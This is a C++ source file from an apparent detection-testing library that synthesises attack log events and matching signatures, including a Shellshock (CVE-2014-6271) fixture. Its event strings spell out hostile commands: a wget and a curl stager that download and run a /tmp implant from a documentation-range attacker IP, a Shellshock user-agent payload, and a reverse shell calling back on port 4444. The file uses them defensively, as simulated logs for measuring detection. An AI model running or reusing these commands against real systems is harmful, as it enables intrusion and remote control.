#include "logeff/scenario.hpp"

#include <fstream>
#include <iterator>
#include <random>
#include <sstream>

#include <nlohmann/json.hpp>

#include "json_util.hpp"
#include "logeff/error.hpp"

namespace logeff {

namespace {

using json = nlohmann::json;

constexpr const char* kAttackerHost = "attacker";
constexpr const char* kTargetHost = "target";
constexpr const char* kAttackerIp = "198.51.100.9";
constexpr const char* kTargetIp = "192.0.2.10";
constexpr TimestampMs kWindowMs = 60000;

struct ServiceProfile {
    const char* label;
    std::int64_t port;
    const char* daemon;
};

const ServiceProfile kServicePool[] = {
    {"Samba", 445, "/usr/sbin/smbd"},         {"SSH", 22, "/usr/sbin/sshd"},
    {"MySQL", 3306, "/usr/sbin/mysqld"},      {"Redis", 6379, "/usr/bin/redis-server"},
    {"FTP", 21, "/usr/sbin/vsftpd"},
};

std::uint64_t draw(std::mt19937_64& rng, std::uint64_t bound) {
    // Modulo keeps the stream portable; std distributions are not pinned
    // across library implementations.
    return rng() % bound;
}

std::string random_name(std::mt19937_64& rng) {
    std::string name;
    for (int i = 0; i < 5; ++i) {
        name.push_back(static_cast<char>('a' + draw(rng, 26)));
    }
    return name;
}

RawEvent net_event(TimestampMs ts, const std::string& host, const std::string& src_ip,
                   const std::string& dst_ip, std::int64_t src_port, std::int64_t dst_port,
                   std::int64_t bytes_in, std::int64_t bytes_out, const std::string& conn_state) {
    RawEvent e;
    e.ts = ts;
    e.host = host;
    e.source = EventSource::Network;
    e.fields["src_ip"] = src_ip;
    e.fields["dst_ip"] = dst_ip;
    e.fields["src_port"] = src_port;
    e.fields["dst_port"] = dst_port;
    e.fields["proto"] = std::string("tcp");
    e.fields["bytes_in"] = bytes_in;
    e.fields["bytes_out"] = bytes_out;
    e.fields["conn_state"] = conn_state;
    return e;
}

RawEvent http_event(TimestampMs ts, const std::string& host, const std::string& method,
                    const std::string& url_path, std::int64_t status,
                    const std::string& user_agent) {
    RawEvent e;
    e.ts = ts;
    e.host = host;
    e.source = EventSource::Http;
    e.fields["method"] = method;
    e.fields["url_path"] = url_path;
    e.fields["status"] = status;
    e.fields["user_agent"] = user_agent;
    return e;
}

RawEvent proc_event(TimestampMs ts, const std::string& host, std::int64_t pid, std::int64_t ppid,
                    const std::string& exe, const std::string& cmdline, const std::string& user,
                    const std::string& parent_exe, const std::string& cwd) {
    RawEvent e;
    e.ts = ts;
    e.host = host;
    e.source = EventSource::Process;
    e.fields["pid"] = pid;
    e.fields["ppid"] = ppid;
    e.fields["exe"] = exe;
    e.fields["cmdline"] = cmdline;
    e.fields["user"] = user;
    e.fields["parent_exe"] = parent_exe;
    e.fields["cwd"] = cwd;
    return e;
}

RawEvent benign_event(std::size_t i, TimestampMs ts, std::mt19937_64& rng) {
    switch (i % 3) {
    case 0: {
        RawEvent e = http_event(ts, kTargetHost, "GET", "/index.html", 200,
                                "Mozilla/5.0 (X11; Linux x86_64)");
        e.fields["response_body_len"] = static_cast<std::int64_t>(1000 + draw(rng, 4000));
        return e;
    }
    case 1:
        return net_event(ts, kTargetHost, kTargetIp, "10.0.3.7",
                         static_cast<std::int64_t>(49152 + draw(rng, 16384)), 443,
                         static_cast<std::int64_t>(200 + draw(rng, 2000)),
                         static_cast<std::int64_t>(200 + draw(rng, 2000)), "SF");
    default:
        return proc_event(ts, kTargetHost, static_cast<std::int64_t>(2000 + draw(rng, 1000)), 1,
                          "/usr/sbin/cron", "/usr/sbin/cron -f", "root",
                          "/usr/lib/systemd/systemd", "/");
    }
}

}  // namespace

const char* to_string(AttackVector vector) {
    switch (vector) {
    case AttackVector::HttpGet: return "http_get";
    case AttackVector::HttpPost: return "http_post";
    case AttackVector::HttpMixed: return "http_mixed";
    case AttackVector::ServicePayload: return "service_payload";
    }
    return "http_get";
}

AttackVector attack_vector_from_string(const std::string& name) {
    if (name == "http_get") return AttackVector::HttpGet;
    if (name == "http_post") return AttackVector::HttpPost;
    if (name == "http_mixed") return AttackVector::HttpMixed;
    if (name == "service_payload") return AttackVector::ServicePayload;
    throw Error(ErrorKind::InvalidSpec, "unknown attack vector \"" + name + "\"");
}

TimestampMs default_scenario_start() {
    static const TimestampMs start = parse_timestamp("2024-06-01T00:00:00.000Z");
    return start;
}

void validate_spec(const ScenarioSpec& spec) {
    if (!valid_cve(spec.cve)) {
        throw Error(ErrorKind::InvalidSpec, "bad CVE id \"" + spec.cve + "\"");
    }
    if (spec.c2_port < 1 || spec.c2_port > 65535) {
        throw Error(ErrorKind::InvalidSpec, "c2_port out of range");
    }
    if (spec.payload_marker.empty()) {
        throw Error(ErrorKind::InvalidSpec, "payload_marker must be non-empty");
    }
    // Noise is laid out before the window; keep every timestamp in the epoch.
    const TimestampMs noise_span = 40000 + 3000 * static_cast<TimestampMs>(spec.benign_noise);
    if (spec.start_ts < noise_span) {
        throw Error(ErrorKind::InvalidSpec, "start_ts too early for the noise layout");
    }
}

SynthResult synthesize(const ScenarioSpec& spec) {
    validate_spec(spec);
    std::mt19937_64 rng(spec.seed);
    const std::string name = random_name(rng);
    const std::string tmp_path = "/tmp/" + name;
    const TimestampMs W = spec.start_ts;

    const bool web = spec.vector != AttackVector::ServicePayload;
    ServiceProfile svc{"HTTP", 80, "/usr/sbin/apache2"};
    const char* svc_user = "www-data";

    const auto svc_pid = static_cast<std::int64_t>(300 + draw(rng, 500));
    const auto shell_pid = static_cast<std::int64_t>(1000 + draw(rng, 20000));
    const auto drop_pid = shell_pid + 1;
    const auto exec_pid = shell_pid + 2;
    const auto eph_in = static_cast<std::int64_t>(49152 + draw(rng, 16384));
    const auto eph_out = static_cast<std::int64_t>(49152 + draw(rng, 16384));
    if (!web) {
        svc = kServicePool[draw(rng, std::size(kServicePool))];
        svc_user = "root";
    }

    // Chain events in timestamp order; indices recorded as they are pushed.
    std::vector<RawEvent> chain;
    std::vector<std::size_t> ia_carriers;

    if (web) {
        chain.push_back(net_event(W, kTargetHost, kAttackerIp, kTargetIp, eph_in, svc.port,
                                  static_cast<std::int64_t>(400 + draw(rng, 800)),
                                  static_cast<std::int64_t>(200 + draw(rng, 400)), "SF"));
        const std::string agent = "Mozilla/5.0 (compatible; probe)";
        if (spec.vector == AttackVector::HttpGet || spec.vector == AttackVector::HttpMixed) {
            RawEvent e = http_event(W + 1000, kTargetHost, "GET", "/app/" + spec.payload_marker,
                                    200, agent);
            e.fields["query_string"] = "q=" + spec.payload_marker;
            e.fields["response_body_len"] = static_cast<std::int64_t>(200 + draw(rng, 600));
            ia_carriers.push_back(chain.size());
            chain.push_back(std::move(e));
        }
        if (spec.vector == AttackVector::HttpPost || spec.vector == AttackVector::HttpMixed) {
            RawEvent e = http_event(W + 1500, kTargetHost, "POST", "/app/upload", 200, agent);
            const std::string body = "data=" + spec.payload_marker + "&pad=AAAAAAAA";
            e.fields["request_body"] = body;
            e.fields["request_body_len"] = static_cast<std::int64_t>(body.size());
            e.fields["headers.content_type"] = std::string("application/x-www-form-urlencoded");
            ia_carriers.push_back(chain.size());
            chain.push_back(std::move(e));
        }
    } else {
        RawEvent e = net_event(W + 1000, kTargetHost, kAttackerIp, kTargetIp, eph_in, svc.port,
                               static_cast<std::int64_t>(600 + draw(rng, 1200)),
                               static_cast<std::int64_t>(100 + draw(rng, 200)), "SF");
        e.fields["payload"] = "blob:" + spec.payload_marker;
        ia_carriers.push_back(chain.size());
        chain.push_back(std::move(e));
    }

    const std::string fetch = "wget http://" + std::string(kAttackerIp) + ":8000/" + name +
                              " -O " + tmp_path;
    const std::string run = tmp_path + " " + kAttackerIp + " " + std::to_string(spec.c2_port);

    const std::size_t shell_idx = chain.size();
    chain.push_back(proc_event(W + 10000, kTargetHost, shell_pid, svc_pid, "/bin/sh",
                               "sh -c \"" + fetch + " && chmod +x " + tmp_path + " && " + run +
                                   "\"",
                               svc_user, svc.daemon, "/"));
    const std::size_t drop_idx = chain.size();
    chain.push_back(proc_event(W + 12000, kTargetHost, drop_pid, shell_pid, "/usr/bin/wget", fetch,
                               svc_user, "/bin/sh", "/tmp"));
    const std::size_t exec_idx = chain.size();
    chain.push_back(proc_event(W + 15000, kTargetHost, exec_pid, shell_pid, tmp_path, run,
                               svc_user, "/bin/sh", "/tmp"));

    const std::size_t egress_idx = chain.size();
    {
        RawEvent e = net_event(W + 20000, kTargetHost, kTargetIp, kAttackerIp, eph_out,
                               spec.c2_port, static_cast<std::int64_t>(100 + draw(rng, 200)),
                               static_cast<std::int64_t>(1000 + draw(rng, 4000)), "S1");
        e.fields["payload"] = "beacon id=" + name;
        chain.push_back(std::move(e));
    }

    // Marker-free filler brings per-source counts up to any requested totals.
    std::map<EventSource, std::size_t> natural = {{EventSource::Network, 0},
                                                  {EventSource::Http, 0},
                                                  {EventSource::Process, 0}};
    for (const auto& e : chain) ++natural[e.source];
    std::vector<EventSource> filler_plan;
    for (const auto& [source, want] : spec.event_counts) {
        const std::size_t have = natural[source];
        if (want < have) {
            throw Error(ErrorKind::InvalidSpec,
                        std::string(to_string(source)) + " count " + std::to_string(want) +
                            " below the chain minimum " + std::to_string(have));
        }
        for (std::size_t i = have; i < want; ++i) filler_plan.push_back(source);
    }
    const std::string filler_method = spec.vector == AttackVector::HttpPost ? "POST" : "GET";
    for (std::size_t i = 0; i < filler_plan.size(); ++i) {
        const TimestampMs ts =
            W + 31000 + static_cast<TimestampMs>((i * 28000ULL) / filler_plan.size());
        switch (filler_plan[i]) {
        case EventSource::Network:
            chain.push_back(net_event(ts, kTargetHost, kTargetIp, "10.0.3.7",
                                      static_cast<std::int64_t>(49152 + draw(rng, 16384)), 443,
                                      static_cast<std::int64_t>(200 + draw(rng, 2000)),
                                      static_cast<std::int64_t>(200 + draw(rng, 2000)), "SF"));
            break;
        case EventSource::Http: {
            RawEvent e =
                http_event(ts, kTargetHost, filler_method, "/health", 200, "haproxy-check/2.4");
            e.fields["response_body_len"] = static_cast<std::int64_t>(2 + draw(rng, 30));
            chain.push_back(std::move(e));
            break;
        }
        case EventSource::Process:
            chain.push_back(proc_event(ts, kTargetHost,
                                       static_cast<std::int64_t>(2000 + draw(rng, 1000)), 1,
                                       "/usr/sbin/logrotate",
                                       "/usr/sbin/logrotate /etc/logrotate.conf", "root",
                                       "/usr/lib/systemd/systemd", "/"));
            break;
        }
    }

    SynthResult result;
    result.record.cve = spec.cve;
    result.record.start_ts = W;
    result.record.end_ts = W + kWindowMs;
    result.record.attacker_host = kAttackerHost;
    result.record.target_host = kTargetHost;
    result.record.service = svc.label;

    const std::size_t n_pre = (spec.benign_noise + 1) / 2;
    const std::size_t n_post = spec.benign_noise - n_pre;
    std::vector<RawEvent>& events = result.corpus.events;
    for (std::size_t i = 0; i < n_pre; ++i) {
        const TimestampMs ts = W - 20000 - static_cast<TimestampMs>(n_pre - 1 - i) * 3000;
        events.push_back(benign_event(i, ts, rng));
    }
    const std::size_t chain_offset = events.size();
    for (auto& e : chain) events.push_back(std::move(e));
    for (std::size_t i = 0; i < n_post; ++i) {
        const TimestampMs ts = W + kWindowMs + 15000 + static_cast<TimestampMs>(i) * 3000;
        events.push_back(benign_event(n_pre + i, ts, rng));
    }
    result.corpus.origin = "synth:" + spec.cve;
    for (const auto& e : events) validate_event(e);

    ScenarioManifest& m = result.manifest;
    m.cve = spec.cve;
    m.vector = spec.vector;
    m.vuln_class = web ? VulnClass::Web : VulnClass::Service;
    m.payload_marker = spec.payload_marker;
    m.payload_name = name;
    m.attacker_ip = kAttackerIp;
    m.target_ip = kTargetIp;
    m.c2_port = spec.c2_port;
    m.benign_noise = spec.benign_noise;
    for (std::size_t i = chain_offset; i < events.size() - n_post; ++i) {
        ++m.event_counts[events[i].source];
    }
    auto shift = [chain_offset](std::vector<std::size_t> v) {
        for (auto& idx : v) idx += chain_offset;
        return v;
    };
    m.planted[spec.cve + "-ia-payload-marker"] = shift(ia_carriers);
    m.planted[spec.cve + "-ex-payload-drop"] = shift({shell_idx, drop_idx, exec_idx});
    m.planted[spec.cve + "-ex-payload-exec"] = shift({exec_idx});
    m.planted[spec.cve + "-c2-reverse-tcp"] = shift({egress_idx});
    m.planted[spec.cve + "-c2-conn-open"] = shift({egress_idx});
    return result;
}

SignatureSet scenario_signatures(const ScenarioManifest& manifest) {
    const std::string& cve = manifest.cve;
    const std::string& marker = manifest.payload_marker;
    const std::string tmp_path = "/tmp/" + manifest.payload_name;

    Predicate ia_pred;
    std::set<EventSource> ia_sources = {EventSource::Http};
    switch (manifest.vector) {
    case AttackVector::HttpGet:
        ia_pred = p_any({p_match("url_path", make_matcher(Matcher::Op::Contains, marker)),
                         p_match("query_string", make_matcher(Matcher::Op::Contains, marker))});
        break;
    case AttackVector::HttpPost:
        ia_pred = p_match("request_body", make_matcher(Matcher::Op::Contains, marker));
        break;
    case AttackVector::HttpMixed:
        ia_pred = p_any({p_match("url_path", make_matcher(Matcher::Op::Contains, marker)),
                         p_match("request_body", make_matcher(Matcher::Op::Contains, marker))});
        break;
    case AttackVector::ServicePayload:
        ia_pred = p_match("payload", make_matcher(Matcher::Op::Contains, marker));
        ia_sources = {EventSource::Network};
        break;
    }

    SignatureSet set;
    Signature ia;
    ia.id = cve + "-ia-payload-marker";
    ia.cve = cve;
    ia.phase = Phase::InitialAccess;
    ia.fidelity = Fidelity::High;
    ia.description = "exploit payload marker in the delivery channel";
    ia.applicable_sources = ia_sources;
    ia.predicate = std::move(ia_pred);
    set.signatures.push_back(std::move(ia));

    Signature drop;
    drop.id = cve + "-ex-payload-drop";
    drop.cve = cve;
    drop.phase = Phase::Execution;
    drop.fidelity = Fidelity::Low;
    drop.description = "command line staging the /tmp implant";
    drop.applicable_sources = {EventSource::Process};
    drop.predicate = p_match("cmdline", make_matcher(Matcher::Op::Contains, tmp_path));
    set.signatures.push_back(std::move(drop));

    Signature exec;
    exec.id = cve + "-ex-payload-exec";
    exec.cve = cve;
    exec.phase = Phase::Execution;
    exec.fidelity = Fidelity::High;
    exec.description = "execution of the dropped /tmp implant";
    exec.applicable_sources = {EventSource::Process};
    exec.predicate = p_match("exe", make_matcher(Matcher::Op::Equals, tmp_path));
    set.signatures.push_back(std::move(exec));

    Signature reverse;
    reverse.id = cve + "-c2-reverse-tcp";
    reverse.cve = cve;
    reverse.phase = Phase::CommandAndControl;
    reverse.fidelity = Fidelity::High;
    reverse.description = "reverse TCP connection to the attacker";
    reverse.applicable_sources = {EventSource::Network};
    reverse.predicate = p_all(
        {p_match("dst_port",
                 make_matcher(Matcher::Op::Equals, static_cast<std::int64_t>(manifest.c2_port))),
         p_match("dst_ip", make_matcher(Matcher::Op::Equals, manifest.attacker_ip))});
    set.signatures.push_back(std::move(reverse));

    Signature conn;
    conn.id = cve + "-c2-conn-open";
    conn.cve = cve;
    conn.phase = Phase::CommandAndControl;
    conn.fidelity = Fidelity::Low;
    conn.description = "half-open connection state on the callback flow";
    conn.applicable_sources = {EventSource::Network};
    conn.predicate = p_match("conn_state", make_matcher(Matcher::Op::Equals, std::string("S1")));
    set.signatures.push_back(std::move(conn));

    for (const auto& sig : set.signatures) validate_signature(sig);
    return set;
}

std::string serialize_manifest(const ScenarioManifest& manifest) {
    json j;
    j["cve"] = manifest.cve;
    j["vector"] = to_string(manifest.vector);
    j["vuln_class"] = to_string(manifest.vuln_class);
    j["payload_marker"] = manifest.payload_marker;
    j["payload_name"] = manifest.payload_name;
    j["attacker_ip"] = manifest.attacker_ip;
    j["target_ip"] = manifest.target_ip;
    j["c2_port"] = manifest.c2_port;
    j["benign_noise"] = manifest.benign_noise;
    j["event_counts"] = json::object();
    for (const auto& [source, count] : manifest.event_counts) {
        j["event_counts"][to_string(source)] = count;
    }
    j["planted"] = json::object();
    for (const auto& [id, carriers] : manifest.planted) {
        j["planted"][id] = carriers;
    }
    return j.dump(2);
}

ScenarioManifest parse_manifest(const std::string& text, const std::string& origin) {
    json j;
    try {
        j = json::parse(text);
    } catch (const json::exception& e) {
        throw Error(ErrorKind::InvalidSpec, origin + ": " + e.what());
    }
    ScenarioManifest m;
    try {
        m.cve = j.at("cve").get<std::string>();
        m.vector = attack_vector_from_string(j.at("vector").get<std::string>());
        const std::string vc = j.at("vuln_class").get<std::string>();
        if (vc != "web" && vc != "service") {
            throw Error(ErrorKind::InvalidSpec, origin + ": bad vuln_class \"" + vc + "\"");
        }
        m.vuln_class = vc == "web" ? VulnClass::Web : VulnClass::Service;
        m.payload_marker = j.at("payload_marker").get<std::string>();
        m.payload_name = j.at("payload_name").get<std::string>();
        m.attacker_ip = j.at("attacker_ip").get<std::string>();
        m.target_ip = j.at("target_ip").get<std::string>();
        m.c2_port = j.at("c2_port").get<int>();
        m.benign_noise = j.at("benign_noise").get<std::size_t>();
        for (const auto& [key, value] : j.at("event_counts").items()) {
            m.event_counts[event_source_from_string(key)] = value.get<std::size_t>();
        }
        for (const auto& [key, value] : j.at("planted").items()) {
            m.planted[key] = value.get<std::vector<std::size_t>>();
        }
    } catch (const json::exception& e) {
        throw Error(ErrorKind::InvalidSpec, origin + ": " + e.what());
    }
    return m;
}

ScenarioManifest load_manifest(const std::string& path) {
    std::ifstream in(path);
    if (!in) {
        throw Error(ErrorKind::IoFailure, "cannot open " + path);
    }
    std::ostringstream buf;
    buf << in.rdbuf();
    return parse_manifest(buf.str(), path);
}

ShellshockFixture shellshock_fixture() {
    const TimestampMs W = parse_timestamp("2024-05-14T09:00:00.000Z");
    const std::string name = "qfkzt";
    const std::string tmp_path = "/tmp/" + name;
    const std::string stage = "curl -s http://198.51.100.9:8080/stager?file=" + name + " -o " +
                              tmp_path + "; chmod +x " + tmp_path + "; " + tmp_path +
                              " 198.51.100.9 4444";

    ShellshockFixture fx;
    std::vector<RawEvent>& ev = fx.corpus.events;

    ev.push_back(net_event(W, kTargetHost, kAttackerIp, kTargetIp, 51844, 80, 612, 48, "SF"));
    {
        RawEvent e = http_event(W + 500, kTargetHost, "GET", "/victim.cgi", 200,
                                "() { :; }; /bin/bash -c '" + stage + "'");
        e.fields["response_body_len"] = static_cast<std::int64_t>(512);
        ev.push_back(std::move(e));
    }
    ev.push_back(proc_event(W + 2000, kTargetHost, 4301, 1779, "/bin/bash",
                            "/bin/bash -c " + stage, "www-data", "/usr/sbin/apache2",
                            "/usr/lib/cgi-bin"));
    ev.push_back(proc_event(W + 2600, kTargetHost, 4302, 4301, "/usr/bin/curl",
                            "curl -s http://198.51.100.9:8080/stager?file=" + name + " -o " +
                                tmp_path,
                            "www-data", "/bin/bash", "/usr/lib/cgi-bin"));
    {
        RawEvent e = http_event(W + 3100, kTargetHost, "GET", "/stager", 200, "curl/7.68.0");
        e.fields["query_string"] = "file=" + name;
        e.fields["response_body_len"] = static_cast<std::int64_t>(254976);
        ev.push_back(std::move(e));
    }
    ev.push_back(proc_event(W + 4000, kTargetHost, 4303, 4301, tmp_path,
                            tmp_path + " 198.51.100.9 4444", "www-data", "/bin/bash", "/tmp"));
    ev.push_back(proc_event(W + 4400, kTargetHost, 4304, 4303, "/bin/sh", "/bin/sh -i",
                            "www-data", tmp_path, "/tmp"));
    {
        RawEvent e =
            net_event(W + 5000, kTargetHost, kTargetIp, kAttackerIp, 52011, 4444, 96, 1488, "S1");
        e.fields["payload"] = "beacon id=" + name + " uid=www-data host=target";
        ev.push_back(std::move(e));
    }
    ev.push_back(
        proc_event(W + 6000, kTargetHost, 4305, 4304, "/usr/bin/id", "id", "www-data", "/bin/sh",
                   "/tmp"));
    fx.corpus.origin = "fixture:CVE-2014-6271";
    for (const auto& e : ev) validate_event(e);

    fx.record.cve = "CVE-2014-6271";
    fx.record.start_ts = W;
    fx.record.end_ts = W + kWindowMs;
    fx.record.attacker_host = kAttackerHost;
    fx.record.target_host = kTargetHost;
    fx.record.service = "HTTP";

    auto add = [&fx](const char* id, Phase phase, Fidelity fidelity, const char* description,
                     std::set<EventSource> sources, Predicate predicate,
                     std::vector<std::size_t> carriers) {
        Signature sig;
        sig.id = id;
        sig.cve = "CVE-2014-6271";
        sig.phase = phase;
        sig.fidelity = fidelity;
        sig.description = description;
        sig.applicable_sources = std::move(sources);
        sig.predicate = std::move(predicate);
        validate_signature(sig);
        fx.signatures.signatures.push_back(std::move(sig));
        fx.manifest.planted[id] = std::move(carriers);
    };

    add("ss-ia-bash-env", Phase::InitialAccess, Fidelity::High,
        "bash function-definition payload in a request header", {EventSource::Http},
        p_match("user_agent", make_matcher(Matcher::Op::Contains, std::string("() { :; };"))),
        {1});
    add("ss-ia-cgi-target", Phase::InitialAccess, Fidelity::Low,
        "request against the vulnerable CGI endpoint", {EventSource::Http},
        p_match("url_path", make_matcher(Matcher::Op::Contains, std::string("/victim.cgi"))),
        {1});
    add("ss-ia-long-ua", Phase::InitialAccess, Fidelity::Low,
        "anomalously long user agent", {EventSource::Http},
        p_match("user_agent", make_matcher(Matcher::Op::Regex, std::string(".{60,}"))), {1});

    add("ss-ex-tmp-exec", Phase::Execution, Fidelity::High,
        "execution of the staged /tmp implant", {EventSource::Process},
        p_match("exe", make_matcher(Matcher::Op::Equals, tmp_path)), {5});
    add("ss-ex-bash-spawn", Phase::Execution, Fidelity::Low,
        "web service account spawning bash", {EventSource::Process},
        p_all({p_match("exe", make_matcher(Matcher::Op::Contains, std::string("bash"))),
               p_match("user", make_matcher(Matcher::Op::Equals, std::string("www-data")))}),
        {2});
    add("ss-ex-svc-account", Phase::Execution, Fidelity::Low,
        "process activity under the web service account", {EventSource::Process},
        p_match("user", make_matcher(Matcher::Op::Equals, std::string("www-data"))),
        {2, 3, 5, 6, 8});
    add("ss-ex-stager-query", Phase::Execution, Fidelity::Low,
        "stager fetch with a file query parameter", {EventSource::Http},
        p_match("query_string", make_matcher(Matcher::Op::Contains, std::string("file="))), {4});

    add("ss-c2-reverse-tcp", Phase::CommandAndControl, Fidelity::High,
        "reverse TCP connection to the attacker on port 4444", {EventSource::Network},
        p_all({p_match("dst_port", make_matcher(Matcher::Op::Equals, std::int64_t{4444})),
               p_match("dst_ip", make_matcher(Matcher::Op::Equals, std::string(kAttackerIp)))}),
        {7});
    add("ss-c2-cmdline-port", Phase::CommandAndControl, Fidelity::Low,
        "callback port on a command line", {EventSource::Process},
        p_match("cmdline", make_matcher(Matcher::Op::Contains, std::string("4444"))), {2, 5});
    add("ss-c2-beacon-payload", Phase::CommandAndControl, Fidelity::Low,
        "beacon text in the raw flow payload", {EventSource::Network},
        p_match("payload", make_matcher(Matcher::Op::Contains, std::string("beacon"))), {7});
    add("ss-c2-conn-state", Phase::CommandAndControl, Fidelity::Low,
        "half-open connection state on the callback flow", {EventSource::Network},
        p_match("conn_state", make_matcher(Matcher::Op::Equals, std::string("S1"))), {7});
    add("ss-c2-implant-parent", Phase::CommandAndControl, Fidelity::Low,
        "children of the /tmp implant", {EventSource::Process},
        p_match("parent_exe", make_matcher(Matcher::Op::Equals, tmp_path)), {6});

    ScenarioManifest& m = fx.manifest;
    m.cve = "CVE-2014-6271";
    m.vector = AttackVector::HttpGet;
    m.vuln_class = VulnClass::Web;
    m.payload_marker = "() { :; };";
    m.payload_name = name;
    m.attacker_ip = kAttackerIp;
    m.target_ip = kTargetIp;
    m.c2_port = 4444;
    m.benign_noise = 0;
    for (const auto& e : ev) ++m.event_counts[e.source];
    return fx;
}

}  // namespace logeff
